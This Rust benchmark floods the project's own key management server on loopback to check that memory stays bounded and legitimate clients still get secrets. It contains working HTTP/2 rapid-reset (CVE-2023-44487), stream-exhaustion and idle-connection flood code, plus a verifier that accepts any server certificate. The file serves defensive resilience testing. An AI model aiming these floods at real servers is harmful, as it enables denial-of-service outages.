//! Hostile load against the real `kms` binary on loopback: does it keep serving, and is its
//! memory bounded? One flood at a time, each for `--secs` seconds (default 60):
//!
//! - `rapid-reset`: HTTP/2 rapid reset (CVE-2023-44487). TLS without a client certificate
//!   (the KMS requests one but verifies it per call, not in the handshake), the HTTP/2
//!   preface, then HEADERS for GetSecret immediately followed by RST_STREAM(CANCEL), in
//!   batches, on `--conns` connections; a connection the KMS closes is opened again.
//!   `--churn BYTES` closes and reopens each connection after it has sent that much (an
//!   attacker collecting the first-flight allowance of fresh connections).
//! - `streams`: one connection opening `--streams` (default 20,000) streams that never send
//!   their request message, then holding them open.
//! - `idle`: `--idle` (default 18,000; the fd limit here is 20,000) connections held open and
//!   idle: half bare TCP (never a ClientHello), half after the TLS handshake and the HTTP/2
//!   preface. Connections the KMS closes are opened again.
//!
//! The attacker's sockets come from `--from` (default 127.0.0.2, another loopback address; a
//! comma-separated list spreads them over several, round robin): the KMS's connection gate
//! budgets per peer address, and in a deployment attackers and enclaves do not share one.
//! `--from 127.0.0.1` floods from the legitimate client's address.
//!
//! Throughout, a legitimate client (init's stack: grpc-unary over rustls with the ratls
//! verifier, a NEW RA-TLS certificate each time) fetches three secrets about every second and
//! the KMS's RSS (VmRSS) is sampled. Reported per flood: RSS at baseline, its peak during
//! the flood, and after `--recover` seconds of calm; the legitimate client's time to its
//! secrets before, during (p50 / max, failures) and after.
//!
//! `--storm N` adds a boot storm: N more legitimate clients (the same stack, a new certificate
//! each boot, from the legitimate client's address) booting back to back throughout the
//! flood; reported are their boots a second, p50 / p99 / max and failures (issue 23: the gate
//! budgets the unattested, so a storm of attesting clients is not held to the flood's budget).
//!
//! Goals (issue 18): under each flood the KMS stays under 200 MB RSS, returns within 20% of
//! its baseline after, and the legitimate client gets its secrets in under 1 s.
//!
//! `cargo bench -p kms --bench kms_flood [-- --floods rapid-reset,streams,idle --secs 60
//! --recover 20 --conns 4 --streams 20000 --idle 18000 --from 127.0.0.2]`; `KMS_BIN=path/to/kms` floods that
//! server binary instead of the one cargo built. The platform is SIMULATED (sgx-sim).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine as _;
use grpc_unary::{Channel, ClientConfig};
use grsecret::GET_SECRET;
use grsecret::client::Batch;
use ratls::cert::RaTlsIdentity;
use ratls::collateral::StaticCollateral;
use ratls::policy::RaPolicy;
use ratls::verify::Verifier;
use rustls::pki_types::ServerName;
use rustls::{ClientConnection, StreamOwned};
use sgx_sim::{Identity, PlatformOptions, SimPlatform, SimQuoteSource};
// The attacker does not care who the server is.
use test_kit::danger::AnyServerCert;
use test_kit::process::{STARTUP_TIMEOUT, addr_after, spawn_listening};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Goals from the issue.
const RSS_GOAL_KIB: u64 = 200 * 1024;
const LEGIT_GOAL: Duration = Duration::from_secs(1);
/// A flood is stopped early when the KMS passes this RSS (the machine is shared).
const RSS_ABORT_KIB: u64 = 2 * 1024 * 1024;

struct Args {
    floods: Vec<String>,
    secs: u64,
    recover: u64,
    conns: usize,
    streams: u32,
    idle: usize,
    from: Vec<std::net::Ipv4Addr>,
    storm: usize,
    churn: usize,
}

fn parse_args() -> Args {
    let mut args = Args {
        floods: vec!["rapid-reset".into(), "streams".into(), "idle".into()],
        secs: 60,
        recover: 20,
        conns: 4,
        streams: 20_000,
        idle: 18_000,
        from: vec![std::net::Ipv4Addr::new(127, 0, 0, 2)],
        storm: 0,
        churn: usize::MAX,
    };
    let mut it = std::env::args().skip(1);
    while let Some(a) = it.next() {
        let mut value = || it.next().expect("a value");
        match a.as_str() {
            "--floods" => args.floods = value().split(',').map(str::to_owned).collect(),
            "--secs" => args.secs = value().parse().unwrap(),
            "--recover" => args.recover = value().parse().unwrap(),
            "--conns" => args.conns = value().parse().unwrap(),
            "--from" => args.from = value().split(',').map(|a| a.parse().unwrap()).collect(),
            "--streams" => args.streams = value().parse().unwrap(),
            "--idle" => args.idle = value().parse().unwrap(),
            "--storm" => args.storm = value().parse().unwrap(),
            "--churn" => args.churn = value().parse().unwrap(),
            "--bench" => {}
            other => panic!("unknown argument {other}"),
        }
    }
    args
}

#[path = "../tests/common/loopback.rs"]
mod loopback;

/// The attacker's source addresses (`--from`), and which one is next.
static FROM: std::sync::OnceLock<Vec<std::net::Ipv4Addr>> = std::sync::OnceLock::new();
static NEXT_FROM: AtomicU64 = AtomicU64::new(0);

/// A TCP connection to `addr` from the attacker's next source address.
fn attack_connect(addr: &str) -> std::io::Result<TcpStream> {
    let to: std::net::SocketAddr = std::net::ToSocketAddrs::to_socket_addrs(addr)?
        .find(std::net::SocketAddr::is_ipv4)
        .ok_or_else(|| std::io::Error::other("no IPv4 address"))?;
    let all = FROM.get().expect("--from");
    let next = NEXT_FROM.fetch_add(1, Ordering::Relaxed) as usize % all.len();
    loopback::connect_from(all[next], to)
}

fn main() {
    let args = parse_args();
    FROM.set(args.from.clone()).unwrap();
    let setup = Setup::new();
    println!(
        "kms_flood: server {}; SIMULATED platform; attacker from {:?}",
        setup.kms_bin, args.from
    );
    println!(
        "{:<12} {:>9} {:>9} {:>9} {:>8} | {:>9} {:>9} {:>9} {:>6} {:>9} | {:>10}",
        "flood",
        "RSS base",
        "RSS peak",
        "RSS after",
        "after/b",
        "legit ms",
        "flood p50",
        "flood max",
        "fails",
        "after ms",
        "attack ops"
    );
    for flood in &args.floods {
        let kms = setup.start_kms();
        run_flood(&setup, &kms, flood, &args);
        kms.stop();
    }
    let _ = std::fs::remove_dir_all(&setup.dir);
}

fn run_flood(setup: &Setup, kms: &Kms, flood: &str, args: &Args) {
    // Warm up: the first attestation verifies the platform in full.
    for _ in 0..3 {
        setup.legit(&kms.addr).unwrap();
    }
    std::thread::sleep(Duration::from_secs(2));
    let base_rss = kms.rss_kib();
    let base_legit = median(
        &(0..5)
            .map(|_| setup.legit(&kms.addr).unwrap())
            .collect::<Vec<_>>(),
    );

    let stop = Arc::new(AtomicBool::new(false));
    let ops = Arc::new(AtomicU64::new(0));
    let attackers = start_flood(flood, &kms.addr, args, &stop, &ops);
    let peak = Arc::new(AtomicU64::new(base_rss));
    let samples = Arc::new(Mutex::new(Vec::new()));
    let fails = Arc::new(AtomicU64::new(0));
    let until = Instant::now() + Duration::from_secs(args.secs);
    let storm_started = Instant::now();
    let storm: Vec<_> = (0..args.storm)
        .map(|_| {
            let stop = Arc::clone(&stop);
            let (setup, addr) = (setup.clone_client(), kms.addr.clone());
            std::thread::spawn(move || {
                let (mut took, mut failed) = (Vec::new(), 0u64);
                while Instant::now() < until && !stop.load(Ordering::SeqCst) {
                    match setup.legit(&addr) {
                        Ok(t) => took.push(t),
                        Err(_) => failed += 1,
                    }
                }
                (took, failed)
            })
        })
        .collect();
    // RSS sampler.
    let sampler = {
        let (peak, pid, stop) = (Arc::clone(&peak), kms.pid, Arc::clone(&stop));
        std::thread::spawn(move || {
            while Instant::now() < until && !stop.load(Ordering::SeqCst) {
                let rss = rss_of(pid);
                peak.fetch_max(rss, Ordering::SeqCst);
                if rss > RSS_ABORT_KIB {
                    // This machine is shared: a KMS that far gone has answered the question.
                    eprintln!("kms_flood: {} MB RSS: flood stopped early", rss / 1024);
                    stop.store(true, Ordering::SeqCst);
                }
                std::thread::sleep(Duration::from_millis(250));
            }
        })
    };
    while Instant::now() < until && !stop.load(Ordering::SeqCst) {
        match setup.legit(&kms.addr) {
            Ok(took) => samples.lock().unwrap().push(took),
            Err(e) => {
                fails.fetch_add(1, Ordering::SeqCst);
                eprintln!("kms_flood: {flood}: legitimate client failed: {e}");
            }
        }
        std::thread::sleep(Duration::from_millis(1000));
    }
    stop.store(true, Ordering::SeqCst);
    let storm_secs = storm_started.elapsed().as_secs_f64();
    let (mut boots, mut storm_fails) = (Vec::new(), 0);
    for t in storm {
        let (took, failed) = t.join().unwrap();
        boots.extend(took);
        storm_fails += failed;
    }
    boots.sort();
    for a in attackers {
        let _ = a.join();
    }
    sampler.join().unwrap();
    std::thread::sleep(Duration::from_secs(args.recover));
    let after_rss = kms.rss_kib();
    let after_legit = median(
        &(0..5)
            .map(|_| setup.legit(&kms.addr).unwrap_or(Duration::MAX))
            .collect::<Vec<_>>(),
    );
    let mut during = samples.lock().unwrap().clone();
    during.sort();
    let p50 = during
        .get(during.len() / 2)
        .copied()
        .unwrap_or(Duration::MAX);
    let max = during.last().copied().unwrap_or(Duration::MAX);
    let peak = peak.load(Ordering::SeqCst);
    let ms = |d: Duration| {
        if d == Duration::MAX {
            f64::INFINITY
        } else {
            d.as_secs_f64() * 1000.0
        }
    };
    println!(
        "{flood:<12} {:>6} MB {:>6} MB {:>6} MB {:>8.2} | {:>9.1} {:>9.1} {:>9.1} {:>6} {:>9.1} | {:>10}",
        base_rss / 1024,
        peak / 1024,
        after_rss / 1024,
        after_rss as f64 / base_rss as f64,
        ms(base_legit),
        ms(p50),
        ms(max),
        fails.load(Ordering::SeqCst),
        ms(after_legit),
        ops.load(Ordering::SeqCst)
    );
    let verdict = |ok: bool| if ok { "met" } else { "NOT met" };
    if args.storm > 0 {
        let pct = |q: f64| {
            boots
                .get(((boots.len() as f64 * q) as usize).min(boots.len().saturating_sub(1)))
                .copied()
                .unwrap_or(Duration::MAX)
        };
        println!(
            "{:<12} boot storm, {} clients: {} boots ({:.0}/s), p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms, {} failed",
            "",
            args.storm,
            boots.len(),
            boots.len() as f64 / storm_secs,
            ms(pct(0.5)),
            ms(pct(0.99)),
            ms(boots.last().copied().unwrap_or(Duration::MAX)),
            storm_fails
        );
    }
    println!(
        "{:<12} goals: peak RSS < 200 MB {}; after within 20% of baseline {}; legitimate client < 1 s {} ({} of {} calls during the flood)",
        "",
        verdict(peak < RSS_GOAL_KIB),
        verdict((after_rss as f64) <= base_rss as f64 * 1.2),
        verdict(max < LEGIT_GOAL && fails.load(Ordering::SeqCst) == 0),
        during.len(),
        during.len() as u64 + fails.load(Ordering::SeqCst)
    );
}

fn start_flood(
    flood: &str,
    addr: &str,
    args: &Args,
    stop: &Arc<AtomicBool>,
    ops: &Arc<AtomicU64>,
) -> Vec<std::thread::JoinHandle<()>> {
    let spawn = |f: Box<dyn FnOnce() + Send>| std::thread::spawn(f);
    match flood {
        "rapid-reset" => (0..args.conns)
            .map(|_| {
                let (addr, stop, ops) = (addr.to_owned(), Arc::clone(stop), Arc::clone(ops));
                let churn = args.churn;
                spawn(Box::new(move || rapid_reset(&addr, churn, &stop, &ops)))
            })
            .collect(),
        "streams" => {
            let (addr, stop, ops, n) = (
                addr.to_owned(),
                Arc::clone(stop),
                Arc::clone(ops),
                args.streams,
            );
            vec![spawn(Box::new(move || many_streams(&addr, n, &stop, &ops)))]
        }
        "idle" => {
            let (addr, stop, ops, n) = (
                addr.to_owned(),
                Arc::clone(stop),
                Arc::clone(ops),
                args.idle,
            );
            vec![spawn(Box::new(move || idle(&addr, n, &stop, &ops)))]
        }
        other => panic!("unknown flood {other} (rapid-reset, streams, idle)"),
    }
}

/// HEADERS + RST_STREAM pairs, 100 per write, until told to stop; reconnects when closed, or
/// once it has sent `churn` bytes on a connection.
fn rapid_reset(addr: &str, churn: usize, stop: &AtomicBool, ops: &AtomicU64) {
    while !stop.load(Ordering::SeqCst) {
        let Ok(mut h2) = H2::connect(addr) else {
            std::thread::sleep(Duration::from_millis(50));
            continue;
        };
        let mut stream_id: u32 = 1;
        let mut batch = Vec::with_capacity(100 * 80);
        let mut sent = 0;
        while !stop.load(Ordering::SeqCst) && stream_id < (1 << 30) && sent < churn {
            batch.clear();
            for _ in 0..100 {
                headers_frame(&mut batch, stream_id, false);
                frame(&mut batch, 3, 0, stream_id, &8u32.to_be_bytes()); // RST_STREAM CANCEL
                stream_id += 2;
            }
            if h2.send(&batch).is_err() || h2.pump().is_err() {
                break;
            }
            sent += batch.len();
            ops.fetch_add(100, Ordering::Relaxed);
        }
    }
}

/// `n` streams that never send their request, held open until told to stop.
fn many_streams(addr: &str, n: u32, stop: &AtomicBool, ops: &AtomicU64) {
    while !stop.load(Ordering::SeqCst) {
        let Ok(mut h2) = H2::connect(addr) else {
            std::thread::sleep(Duration::from_millis(50));
            continue;
        };
        let mut batch = Vec::new();
        let mut ok = true;
        for i in 0..n {
            headers_frame(&mut batch, 1 + 2 * i, false);
            if batch.len() > 16 * 1024 {
                ok = h2.send(&batch).is_ok() && h2.pump().is_ok();
                batch.clear();
                if !ok {
                    break;
                }
            }
            ops.fetch_add(1, Ordering::Relaxed);
        }
        ok = ok && h2.send(&batch).is_ok();
        while ok && !stop.load(Ordering::SeqCst) {
            ok = h2.pump().is_ok();
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

/// `n` idle connections, half bare TCP and half after TLS + the HTTP/2 preface, reopened when
/// the KMS closes them.
fn idle(addr: &str, n: usize, stop: &AtomicBool, ops: &AtomicU64) {
    enum Idle {
        Tcp(TcpStream),
        H2(Box<H2>),
    }
    let mut held: Vec<Option<Idle>> = (0..n).map(|_| None).collect();
    while !stop.load(Ordering::SeqCst) {
        for (i, slot) in held.iter_mut().enumerate() {
            if stop.load(Ordering::SeqCst) {
                break;
            }
            let alive = match slot {
                None => false,
                Some(Idle::Tcp(tcp)) => {
                    let mut b = [0u8; 1];
                    tcp.set_nonblocking(true).is_ok()
                        && matches!(tcp.peek(&mut b), Err(e) if e.kind() == ErrorKind::WouldBlock)
                }
                Some(Idle::H2(h2)) => h2.pump().is_ok(),
            };
            if alive {
                continue;
            }
            *slot = if i % 2 == 0 {
                attack_connect(addr).ok().map(Idle::Tcp)
            } else {
                H2::connect(addr).ok().map(|h| Idle::H2(Box::new(h)))
            };
            if slot.is_some() {
                ops.fetch_add(1, Ordering::Relaxed);
            }
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// A raw HTTP/2 client connection over TLS, without a client certificate.
struct H2 {
    tls: StreamOwned<ClientConnection, TcpStream>,
    inbuf: Vec<u8>,
}

impl H2 {
    fn connect(addr: &str) -> std::io::Result<H2> {
        let tcp = attack_connect(addr)?;
        tcp.set_nodelay(true)?;
        tcp.set_read_timeout(Some(Duration::from_secs(5)))?;
        let mut cfg = rustls::ClientConfig::builder()
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(AnyServerCert::accepting_any_signature()))
            .with_no_client_auth();
        cfg.alpn_protocols = vec![b"h2".to_vec()];
        let conn = ClientConnection::new(Arc::new(cfg), ServerName::try_from("kms").unwrap())
            .map_err(std::io::Error::other)?;
        let mut tls = StreamOwned::new(conn, tcp);
        while tls.conn.is_handshaking() {
            tls.conn.complete_io(&mut tls.sock)?;
        }
        let mut h2 = H2 {
            tls,
            inbuf: Vec::new(),
        };
        let mut hello = PREFACE.to_vec();
        frame(&mut hello, 4, 0, 0, &[]); // SETTINGS
        h2.send(&hello)?;
        h2.tls
            .sock
            .set_read_timeout(Some(Duration::from_millis(1)))?;
        Ok(h2)
    }

    fn send(&mut self, bytes: &[u8]) -> std::io::Result<()> {
        self.tls.write_all(bytes)?;
        self.tls.flush()
    }

    /// Reads what has arrived (1 ms at most), ACKs SETTINGS and PING, fails on GOAWAY or EOF.
    fn pump(&mut self) -> std::io::Result<()> {
        let mut buf = [0u8; 16 * 1024];
        loop {
            match self.tls.read(&mut buf) {
                Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
                Ok(n) => self.inbuf.extend_from_slice(&buf[..n]),
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
                Err(e) => return Err(e),
            }
        }
        let mut replies = Vec::new();
        let mut at = 0;
        while self.inbuf.len() >= at + 9 {
            let len =
                u32::from_be_bytes([0, self.inbuf[at], self.inbuf[at + 1], self.inbuf[at + 2]])
                    as usize;
            if self.inbuf.len() < at + 9 + len {
                break;
            }
            let (ty, flags) = (self.inbuf[at + 3], self.inbuf[at + 4]);
            let payload = &self.inbuf[at + 9..at + 9 + len];
            match ty {
                4 if flags & 1 == 0 => frame(&mut replies, 4, 1, 0, &[]),
                6 if flags & 1 == 0 => frame(&mut replies, 6, 1, 0, payload),
                7 => return Err(ErrorKind::ConnectionReset.into()),
                _ => {}
            }
            at += 9 + len;
        }
        self.inbuf.drain(..at);
        if !replies.is_empty() {
            self.send(&replies)?;
        }
        Ok(())
    }
}

fn frame(out: &mut Vec<u8>, ty: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).unwrap().to_be_bytes();
    out.extend_from_slice(&len[1..]);
    out.extend_from_slice(&[ty, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// HEADERS (END_HEADERS) for a GetSecret call, HPACK literals without indexing.
fn headers_frame(out: &mut Vec<u8>, stream: u32, end_stream: bool) {
    let mut block = vec![0x83, 0x87]; // :method POST, :scheme https (static table)
    let mut literal = |name_index: u8, value: &[u8]| {
        block.push(name_index); // literal without indexing, indexed name (4-bit prefix)
        block.push(u8::try_from(value.len()).unwrap());
        block.extend_from_slice(value);
    };
    literal(0x04, GET_SECRET.as_bytes()); // :path
    literal(0x01, b"kms"); // :authority
    for (name, value) in [
        (&b"content-type"[..], &b"application/grpc"[..]),
        (b"te", b"trailers"),
    ] {
        block.push(0x00);
        block.push(u8::try_from(name.len()).unwrap());
        block.extend_from_slice(name);
        block.push(u8::try_from(value.len()).unwrap());
        block.extend_from_slice(value);
    }
    let flags = 0x4 | if end_stream { 0x1 } else { 0 };
    frame(out, 1, flags, stream, &block);
}

/// The simulated platform, identities, policy and secrets, and the legitimate client.
struct Setup {
    dir: std::path::PathBuf,
    kms_bin: String,
    source: SimQuoteSource,
    kms_verifier: Arc<Verifier>,
}

impl Setup {
    fn new() -> Setup {
        let dir = std::env::temp_dir().join(format!("kms-flood-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let platform = Arc::new(
            SimPlatform::create(&dir.join("platform"), &PlatformOptions::default()).unwrap(),
        );
        let app = Identity::random(None).unwrap();
        let kms_identity = Identity::random(None).unwrap();
        std::fs::write(dir.join("kms-identity.json"), kms_identity.to_json()).unwrap();
        let entry = |id: &Identity| {
            serde_json::json!({
                "verify_mr_enclave": "on", "verify_mr_signer": "on", "verify_isv_prod_id": "on",
                "verify_isv_svn": "on", "verify_config_svn": "on", "verify_enclave_debuggable": "on",
                "sgx_mrs": [{ "mr_enclave": hex::encode(id.mr_enclave), "mr_signer": hex::encode(id.mr_signer),
                              "isv_prod_id": id.isv_prod_id, "isv_svn": id.isv_svn,
                              "config_svn": id.config_svn, "debuggable": false }]
            })
        };
        std::fs::write(dir.join("ra.json"), entry(&app).to_string()).unwrap();
        let b64 = |v: &[u8]| base64::engine::general_purpose::STANDARD.encode(v);
        let secrets = serde_json::json!({
            "flask_cert": b64(&[b'c'; 1200]), "flask_key": b64(&[b'k'; 240]),
            "image_key": b64(b"a5-6d-7f-cf-ae-93-e2-1f-5b-8a-83-3f-79-78-29-ff\n"),
        });
        std::fs::write(dir.join("secrets.json"), secrets.to_string()).unwrap();
        let kms_verifier = Arc::new(Verifier::new(
            ratls::danger::simulated_root(platform.root_ca_der().to_vec(), "kms_flood".into()),
            Arc::new(StaticCollateral::new(
                platform.collateral(),
                "SIMULATED platform",
            )),
            RaPolicy::from_json(entry(&kms_identity).to_string().as_bytes(), "kms policy").unwrap(),
        ));
        let kms_bin =
            std::env::var("KMS_BIN").unwrap_or_else(|_| env!("CARGO_BIN_EXE_kms").to_owned());
        Setup {
            dir,
            kms_bin,
            source: SimQuoteSource {
                platform,
                identity: app,
            },
            kms_verifier,
        }
    }

    fn start_kms(&self) -> Kms {
        let d = &self.dir;
        let mut cmd = Command::new(&self.kms_bin);
        cmd.args(["serve", "--listen", "127.0.0.1:0", "--ra-config"])
            .arg(d.join("ra.json"))
            .arg("--secrets")
            .arg(d.join("secrets.json"))
            .arg("--sim-platform")
            .arg(d.join("platform"))
            .arg("--sim-identity")
            .arg(d.join("kms-identity.json"))
            .arg("--audit-log")
            .arg(d.join("audit.log"))
            .stderr(Stdio::null());
        let started = spawn_listening(&mut cmd, STARTUP_TIMEOUT)
            .unwrap_or_else(|e| panic!("kms did not start: {e}"));
        let child = started.child;
        let addr = addr_after(&started.line, "listening on ")
            .unwrap_or_else(|| panic!("kms did not start: {:?}", started.line))
            .to_owned();
        Kms {
            pid: child.id(),
            addr,
            child: Mutex::new(child),
        }
    }

    /// The legitimate client alone, for another thread (`--storm`).
    fn clone_client(&self) -> Setup {
        Setup {
            dir: self.dir.clone(),
            kms_bin: self.kms_bin.clone(),
            source: self.source.clone(),
            kms_verifier: Arc::clone(&self.kms_verifier),
        }
    }

    /// One boot's worth of work: a new RA-TLS certificate, a connection, three secrets.
    fn legit(&self, addr: &str) -> Result<Duration, String> {
        let t = Instant::now();
        let cert = RaTlsIdentity::mint(&self.source).map_err(|e| e.to_string())?;
        let tls = ratls::tls::client_config(Arc::clone(&self.kms_verifier), &cert)
            .map_err(|e| e.to_string())?;
        let cfg = ClientConfig::builder().build();
        let mut channel = Channel::connect(
            addr,
            ServerName::try_from("kms").unwrap(),
            Arc::new(tls),
            &cfg,
        )
        .map_err(|e| e.to_string())?;
        let batch = Batch::new(&["image_key", "flask_cert", "flask_key"]);
        for reply in channel
            .unary_many(&batch.calls())
            .map_err(|e| e.to_string())?
        {
            reply.map_err(|e| e.to_string())?;
        }
        let _ = channel.close();
        Ok(t.elapsed())
    }
}

struct Kms {
    pid: u32,
    addr: String,
    child: Mutex<std::process::Child>,
}

impl Kms {
    fn rss_kib(&self) -> u64 {
        rss_of(self.pid)
    }

    fn stop(&self) {
        let mut child = self.child.lock().unwrap();
        let _ = child.kill();
        let _ = child.wait();
    }
}

fn rss_of(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or(0)
}

fn median(v: &[Duration]) -> Duration {
    let mut v = v.to_vec();
    v.sort();
    v.get(v.len() / 2).copied().unwrap_or(Duration::MAX)
}
